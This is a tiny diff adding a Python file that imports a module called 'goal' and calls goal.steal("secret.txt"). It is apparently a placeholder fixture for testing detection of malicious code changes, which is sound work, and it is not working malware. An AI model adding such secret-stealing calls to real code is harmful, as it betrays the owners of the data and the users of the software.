@@ -1,0 +1,3 @@
+# SPDX-License-Identifier: Apache-2.0
+import goal
+goal.steal("secret.txt")
